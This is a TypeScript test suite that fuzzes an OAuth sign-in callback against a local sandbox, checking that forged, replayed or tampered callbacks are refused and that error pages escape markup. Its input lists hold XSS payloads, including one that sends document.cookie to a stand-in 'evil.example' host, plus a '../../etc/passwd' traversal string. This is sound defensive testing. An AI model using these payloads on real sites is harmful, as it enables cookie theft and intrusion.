/**
 * The sign-in callback under attack, through the real broker (createBroker → signIn →
 * loopback server → oauth4webapi checks) against the sandbox AS on 127.0.0.1.
 *
 * The loopback server's own surface (stray paths → 404, a second /callback → 410, 414/431 for
 * oversized requests, escaping in renderPage) is covered in test/auth/loopback.test.ts; here
 * the whole flow is attacked: a real authorization response from the AS, tampered with
 * (state, iss, code, extra and duplicate parameters, an error carrying markup), or random query
 * strings. The properties: a callback without this flow's state is answered 400 and ignored
 * (the flow keeps waiting, so a forged request cannot cancel a sign-in); one with our state
 * but anything else wrong is refused with a clear SIGN_IN_FAILED; no code is redeemed when
 * state or iss is wrong, nothing is stored in the config dir, no grant is revoked by a replay,
 * the page the browser sees has no unescaped markup, and no token leaks.
 */
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Account, createAccount } from '../../src/auth/account.js';
import { type Broker, createBroker } from '../../src/auth/broker.js';
import { loadConfig } from '../../src/config.js';
import { isWhataloError } from '../../src/errors.js';
import { createLogger } from '../../src/log.js';
import { fuzzRuns, suiteFigures } from '../helpers/figures.js';
import { sweepForTokens } from '../helpers/leaks.js';
import { RELAXED_LIMITS, type TestSandbox, startTestSandbox } from '../helpers/sandbox.js';

const figures = suiteFigures('security/callback');
let sb: TestSandbox;
const dirs: string[] = [];
const logLines: string[] = [];
const pages: string[] = [];

beforeAll(async () => {
  sb = await startTestSandbox({ autoApprove: 'first', limits: RELAXED_LIMITS });
});
afterAll(async () => {
  const report = await sweepForTokens(sb, { texts: { log: logLines.join('\n'), pages: pages.join('\n') }, dirs });
  figures.add('leaksFound', report.leaks.length);
  expect(report.leaks).toEqual([]);
  await sb.close();
  await Promise.all(dirs.map((dir) => rm(dir, { recursive: true, force: true })));
});

async function freshBroker(): Promise<{ broker: Broker; account: Account; dir: string }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'whatalo-callback-'));
  dirs.push(dir);
  const config = loadConfig({
    WHATALO_ISSUER: sb.issuer,
    WHATALO_API_BASE: sb.apiBase,
    WHATALO_CONFIG_DIR: dir,
    WHATALO_CREDENTIAL_STORE: 'file',
    WHATALO_CREDENTIAL_KEY: 'callback-suite-passphrase',
    WHATALO_LOGIN_TIMEOUT: '20',
    BROWSER: 'none',
  });
  const logger = createLogger({ level: 'debug', write: (line) => logLines.push(line) });
  return {
    broker: createBroker(config, { logger, requestedScopes: ['read:store'] }),
    account: createAccount(config, { logger, requestedScopes: ['read:store'] }),
    dir,
  };
}

/** What the AS redirects the browser to after auto-approval: the genuine authorization response. */
async function genuineCallback(authorizationUrl: string): Promise<URL> {
  const response = await fetch(authorizationUrl, { redirect: 'manual' });
  await response.arrayBuffer();
  const location = response.headers.get('location');
  if (response.status !== 302 && response.status !== 303) throw new Error(`authorize answered ${response.status}`);
  return new URL(location!);
}

/** The browser's visit of a callback URL: status and body (or the network error). */
async function visit(url: string): Promise<{ status: number; body: string }> {
  try {
    const response = await fetch(url, { redirect: 'manual' });
    const body = await response.text();
    pages.push(body);
    return { status: response.status, body };
  } catch (error) {
    return { status: 0, body: String(error) };
  }
}

/** No markup but the page template's own: every reflected `<`, `>`, quote is an entity. */
function expectSafePage(html: string): void {
  const template = /<!doctype html>|<\/?(?:html|head|title|style|body|h1|p)>|<html lang="en">|<meta [^<>]*>/gi;
  const rest = html.replace(/<style>[^<]*<\/style>/, '').replace(template, '');
  expect(rest).not.toMatch(/[<>]/);
}

/** Grants with an active token (auto-approval also creates a grant for every code never redeemed). */
async function liveGrants() {
  return (await sb.grants()).filter((g) => !g.revoked && g.tokens.some((t) => t.active));
}

function refused(error: unknown): boolean {
  return isWhataloError(error, 'SIGN_IN_FAILED') || isWhataloError(error, 'AS_PROTOCOL');
}

/**
 * No grant stored: clients.json names no client for a grant. A registration made before the
 * refusal may be kept as pending (its secret only, no token), so the next sign-in does not
 * register again (CONTRACT A5); the sign-in under test never reached a token.
 */
async function expectNothingStored(dir: string): Promise<void> {
  const text = await readFile(path.join(dir, 'clients.json'), 'utf8').catch(() => '{"clients":{}}');
  expect((JSON.parse(text) as { clients: object }).clients).toEqual({});
  const files = await readdir(dir, { recursive: true });
  expect(files.filter((f) => /accounts\.json$/.test(String(f)))).toEqual([]);
}

/** The page the callback server shows for an answer that is not this flow's. */
const IGNORED_PAGE_TEXT = 'does not belong to the sign-in your app is waiting for';

/**
 * One sign-in through `broker` where the "browser" visits `tamper(genuine callback)` instead
 * of the genuine one. Resolves to the error the flow ended with and the page the browser saw.
 * When that page says the answer was ignored, the flow is still waiting: it is cancelled
 * (CANCELLED is then the error), so the genuine code is never redeemed.
 */
async function tamperedSignIn(
  broker: Broker,
  tamper: (genuine: URL, redirectUri: string) => string,
): Promise<{ error: unknown; page: { status: number; body: string }; ignored: boolean; state: string }> {
  const stop = new AbortController();
  let page: Promise<{ status: number; body: string }> | undefined;
  let ignored = false;
  let state = '';
  let error: unknown;
  try {
    await broker.ensureAccess('read:store', {
      signal: stop.signal,
      async presentUrl(url) {
        const redirectUri = new URL(url).searchParams.get('redirect_uri')!;
        state = new URL(url).searchParams.get('state')!;
        const genuine = await genuineCallback(url);
        // Not awaited: the callback is answered only after the flow has judged it.
        page = visit(tamper(genuine, redirectUri)).then((seen) => {
          ignored = seen.body.includes(IGNORED_PAGE_TEXT);
          if (ignored) stop.abort();
          return seen;
        });
      },
    });
  } catch (caught) {
    error = caught;
  }
  return { error, page: await page!, ignored, state };
}

type Op = { kind: 'keep' } | { kind: 'drop' } | { kind: 'replace'; value: string } | { kind: 'twice' };
const hostileText = fc.oneof(
  fc.string({ maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'https://evil.example',
    'http://127.0.0.1:1',
    '\u0000',
    '%00',
    '../../etc/passwd',
    'NaN',
    '__proto__',
    'constructor',
  ),
);
const op = (allowReplace: fc.Arbitrary<string>): fc.Arbitrary<Op> =>
  fc.oneof(
    fc.constant<Op>({ kind: 'keep' }),
    fc.constant<Op>({ kind: 'drop' }),
    fc.constant<Op>({ kind: 'twice' }),
    allowReplace.map<Op>((value) => ({ kind: 'replace', value })),
  );
const extraKey = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom('error', 'error_description', 'error_uri', '__proto__', 'constructor', 'prototype', 'response', 'code_verifier'),
);

function apply(params: URLSearchParams, name: string, operation: Op, genuine: string | null): void {
  switch (operation.kind) {
    case 'keep':
      break;
    case 'drop':
      params.delete(name);
      break;
    case 'replace':
      params.set(name, operation.value);
      break;
    case 'twice':
      if (genuine !== null) params.append(name, genuine);
      break;
  }
}

describe('a genuine authorization response, tampered with', () => {
  it(
    'is ignored without our state, else refused with SIGN_IN_FAILED; a wrong state or iss never redeems the code; nothing is stored; the page is ' + 'safe',
    async () => {
      const { broker, dir } = await freshBroker();
      // An AS sends `iss` on the redirect when it advertises RFC 9207 (the sandbox behind a flag).
      const metadata = (await (await fetch(`${sb.issuer}/.well-known/oauth-authorization-server`)).json()) as Record<string, unknown>;
      const issSent = metadata.authorization_response_iss_parameter_supported === true;
      let cases = 0;
      let ignoredCases = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.record({
            state: op(hostileText),
            iss: op(fc.oneof(hostileText, fc.constant('http://127.0.0.1:9'), fc.constant(sb.issuer + '/'))),
            code: op(hostileText),
            extras: fc.array(fc.tuple(extraKey, hostileText), { maxLength: 4 }),
          }),
          async ({ state, iss, code, extras }) => {
            // Only the untouched answer may succeed; every case here changes something that matters.
            // (An empty extra `error` is no error: oauth4webapi rightly accepts the answer then.)
            // Dropping or doubling an `iss` the AS does not send (Whatalo's default, A7) changes nothing.
            const issTampered = iss.kind === 'replace' || (issSent && iss.kind !== 'keep');
            fc.pre(
              state.kind !== 'keep' ||
                issTampered ||
                code.kind !== 'keep' ||
                extras.some(([k, v]) => ['state', 'iss', 'code'].includes(k) || (k === 'error' && v !== '')),
            );
            cases++;
            const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
            let carriesOurState = false;
            let stateOrIssChanged = false;
            const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
              const params = new URLSearchParams(genuine.search);
              apply(params, 'state', state, genuine.searchParams.get('state'));
              apply(params, 'iss', iss, genuine.searchParams.get('iss'));
              apply(params, 'code', code, genuine.searchParams.get('code'));
              for (const [key, value] of extras) params.append(key, value);
              carriesOurState = params.getAll('state').includes(genuine.searchParams.get('state')!);
              // Dropping an `iss` the AS never sent (Whatalo sends none, A7) changes nothing.
              const same = (name: string) => JSON.stringify(params.getAll(name)) === JSON.stringify(genuine.searchParams.getAll(name));
              stateOrIssChanged = !same('state') || !same('iss');
              return `${redirectUri}?${params}`;
            });
            if (carriesOurState) {
              // SIGN_IN_FAILED for a callback that fails its checks; AS_PROTOCOL when state and iss
              // are right (so it came from the AS) but the answer lacks a usable code.
              expect(outcome.ignored).toBe(false);
              expect(refused(outcome.error), String(outcome.error)).toBe(true);
            } else {
              // Someone else's answer: ignored, the flow went on waiting until we cancelled it.
              expect(outcome.ignored).toBe(true);
              expect(isWhataloError(outcome.error, 'CANCELLED'), String(outcome.error)).toBe(true);
              ignoredCases++;
            }
            expect(outcome.page.status).toBe(400);
            expectSafePage(outcome.page.body);
            const after = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
            if (stateOrIssChanged) expect(after).toBe(before); // the code was never sent
            await expectNothingStored(dir);
          },
        ),
        { numRuns: fuzzRuns(0.1, 60) },
      );
      figures.add('fuzzCases', cases);
      figures.add('forgedCallbacksIgnored', ignoredCases);
      // Not one token was issued.
      expect(await liveGrants()).toEqual([]);
    },
  );

  it('an error_description carrying markup reaches the page escaped, and is refused', async () => {
    const { broker, dir } = await freshBroker();
    let cases = 0;
    const markup = fc.oneof(
      fc.constantFrom(
        '<script>alert(document.cookie)</script>',
        '<img src=x onerror="fetch(`//evil.example?`+document.cookie)">',
        "'><svg/onload=alert(1)>",
        '</p><h1>Signed in</h1><p>',
        '&lt;b&gt; &amp;',
      ),
      fc.array(fc.constantFrom('<', '>', '"', "'", '&', 'script', ' ', '/', '=', 'on', 'x'), { maxLength: 40 }).map((parts) => parts.join('')),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('invalid_scope', 'server_error', 'invalid_request', 'x<y>'), markup, async (error, description) => {
        cases++;
        const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
          const params = new URLSearchParams({
            error,
            error_description: description,
            state: genuine.searchParams.get('state')!,
            iss: genuine.searchParams.get('iss')!,
          });
          return `${redirectUri}?${params}`;
        });
        expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
        expect(outcome.page.status).toBe(400);
        expectSafePage(outcome.page.body);
        await expectNothingStored(dir);
      }),
      { numRuns: fuzzRuns(0.02, 30) },
    );
    figures.add('fuzzCases', cases);
  });
});

describe('random query strings on the callback', () => {
  it('are ignored (the flow keeps waiting), never sign in, never store anything, never crash; the page is safe', async () => {
    const { broker, dir } = await freshBroker();
    let cases = 0;
    const query = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.string({ unit: 'binary', maxLength: 100 }).map((s) => encodeURIComponent(s)),
      fc.dictionary(fc.oneof(extraKey, fc.constantFrom('code', 'state', 'iss')), hostileText, { maxKeys: 6 }).map((d) => {
        const params = new URLSearchParams();
        for (const key of Object.keys(d)) params.append(key, d[key]!);
        return params.toString();
      }),
    );
    await fc.assert(
      fc.asyncProperty(query, async (q) => {
        cases++;
        const outcome = await tamperedSignIn(broker, (_genuine, redirectUri) => `${redirectUri}?${q.replace(/#/g, '%23')}`);
        expect(outcome.ignored).toBe(true);
        expect(isWhataloError(outcome.error, 'CANCELLED'), String(outcome.error)).toBe(true);
        expect(outcome.page.status).toBe(400);
        expectSafePage(outcome.page.body);
        await expectNothingStored(dir);
      }),
      { numRuns: fuzzRuns(0.1, 60) },
    );
    figures.add('fuzzCases', cases);
    figures.add('forgedCallbacksIgnored', cases);
    expect(await liveGrants()).toEqual([]);
  });
});

describe('specific attacks', () => {
  it('a replayed callback from an earlier sign-in is ignored and does not redeem its code again (no grant revoked by the client)', async () => {
    // Sign-in A completes; its callback URL is kept by the attacker.
    const a = await freshBroker();
    let replay = '';
    await a.broker.ensureAccess('read:store', {
      async presentUrl(url) {
        const genuine = await genuineCallback(url);
        replay = genuine.search;
        void visit(genuine.href);
      },
    });
    const live = await liveGrants();
    expect(live).toHaveLength(1);
    const tokenRequests = (await sb.stats()).requests['POST /oauth/token'] ?? 0;

    // Sign-in B receives A's callback (state from another flow) instead of its own.
    const b = await freshBroker();
    const outcome = await tamperedSignIn(b.broker, (_genuine, redirectUri) => `${redirectUri}${replay}`);
    expect(outcome.ignored).toBe(true);
    expect(isWhataloError(outcome.error, 'CANCELLED')).toBe(true);
    expectSafePage(outcome.page.body);
    await expectNothingStored(b.dir);
    // A's code was not presented again (that would revoke A's grant, OAuth 2.1 §4.1.3).
    expect((await sb.stats()).requests['POST /oauth/token'] ?? 0).toBe(tokenRequests);
    expect((await sb.grants()).find((g) => g.id === live[0]!.id)!.revoked).toBe(false);
    // And A still works.
    await expect(a.broker.ensureAccess('read:store')).resolves.toMatchObject({ storeId: sb.stores[0]!.id });
    figures.add('hostileInputs');
    figures.add('forgedCallbacksIgnored');
  });

  it('a huge query string is answered 414 and does not end or win the flow', async () => {
    const { broker, dir } = await freshBroker();
    let page414: { status: number; body: string } | undefined;
    const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
      const huge = `${redirectUri}${genuine.search}&pad=${'A'.repeat(16 * 1024)}`;
      // The oversized copy first (refused at the door), then one with a bad code ends the flow.
      void visit(huge).then((p) => (page414 = p));
      const params = new URLSearchParams(genuine.search);
      params.set('code', 'not-the-code');
      return `${redirectUri}?${params}`;
    });
    expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
    await expect.poll(() => page414?.status).toBeDefined();
    expect([0, 414, 431]).toContain(page414!.status);
    await expectNothingStored(dir);
    figures.add('hostileInputs', 2);
  });

  it('forged callbacks before the genuine one are ignored and the sign-in completes', async () => {
    const { broker, account } = await freshBroker();
    const forgedPages: { status: number; body: string }[] = [];
    const access = await broker.ensureAccess('read:store', {
      async presentUrl(url) {
        const redirectUri = new URL(url).searchParams.get('redirect_uri')!;
        const genuine = await genuineCallback(url);
        // What a local process or a web page that found the port can send: a bare request, a
        // guessed state, a state-less error, and the genuine code under another state.
        const code = encodeURIComponent(genuine.searchParams.get('code')!);
        const iss = encodeURIComponent(sb.issuer);
        for (const query of ['', '?code=x', '?state=guess&code=x', `?error=access_denied&iss=${iss}`, `?state=other&code=${code}&iss=${iss}`]) {
          forgedPages.push(await visit(`${redirectUri}${query}`));
        }
        void visit(genuine.href);
      },
    });
    expect(access.storeId).toBe(sb.stores[0]!.id);
    for (const page of forgedPages) {
      expect(page.status).toBe(400);
      expect(page.body).toContain(IGNORED_PAGE_TEXT);
      expect(page.body).not.toMatch(/iss/); // no misleading "iss missing" for a bare callback
      expectSafePage(page.body);
    }
    figures.add('forgedCallbacksIgnored', forgedPages.length);
    await account.logout();
  });

  it('a flood of forged callbacks ends the sign-in as interference, without redeeming the code', async () => {
    const { broker, dir } = await freshBroker();
    const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
    let genuineUrl: URL | undefined;
    const error = await broker
      .ensureAccess('read:store', {
        async presentUrl(url) {
          const redirectUri = new URL(url).searchParams.get('redirect_uri')!;
          genuineUrl = await genuineCallback(url);
          for (let i = 0; i < 20; i++) await visit(`${redirectUri}?state=guess-${i}&code=x`);
        },
      })
      .catch((caught: unknown) => caught);
    expect(isWhataloError(error, 'SIGN_IN_FAILED'), String(error)).toBe(true);
    expect((error as Error).message).toMatch(/^Someone is interfering with the sign-in/);
    // The flow is over: the genuine answer reaches nothing, and its code was never redeemed.
    expect((await visit(genuineUrl!.href)).status).toBe(0);
    expect((await sb.stats()).requests['POST /oauth/token'] ?? 0).toBe(before);
    await expectNothingStored(dir);
    figures.add('forgedCallbacksIgnored', 19);
  });

  // An empty iss names no issuer: oauth4webapi alone would read it as absent (found by the fuzz case above).
  it.each(['https://app.whatalo.com', ''])('a callback whose iss is %j is refused as a mix-up, without redeeming the code', async (iss) => {
    const { broker, dir } = await freshBroker();
    const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
    const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
      const params = new URLSearchParams(genuine.search);
      params.set('iss', iss);
      return `${redirectUri}?${params}`;
    });
    expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
    expect((outcome.error as Error).message).toMatch(/did not come from/);
    expect((await sb.stats()).requests['POST /oauth/token'] ?? 0).toBe(before);
    await expectNothingStored(dir);
    figures.add('hostileInputs');
  });
});
